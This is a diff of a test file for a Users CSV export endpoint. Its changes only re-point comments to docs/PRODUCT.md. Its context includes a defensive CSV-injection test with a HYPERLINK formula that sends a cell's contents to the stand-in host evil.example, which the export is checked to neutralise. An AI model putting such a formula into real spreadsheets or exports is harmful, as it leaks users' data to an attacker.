@@ -1,4 +1,4 @@
-// The Users CSV download (SPEC §1 Export) through its route handler, read back with a
+// The Users CSV download (docs/PRODUCT.md, Users page Export) through its route handler, read back with a
 // real CSV parser.
 import { parse } from "csv-parse/sync";
 import { sql } from "kysely";
@@ -112,7 +112,7 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
     const evilRow = byEmail.get("evil@example.com")!;
     expect(evilRow[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
     expect(evilRow.slice(2, 5)).toEqual(["manager", "active", "no_export"]);
-    // The download itself counts as the Owner's activity (SPEC §5), so "last active" is now.
+    // The download itself counts as the Owner's activity (docs/PRODUCT.md, Presence), so "last active" is now.
     expect(byEmail.get(owner.email)!.slice(0, 7)).toEqual([
       owner.name ?? "",
       owner.email,
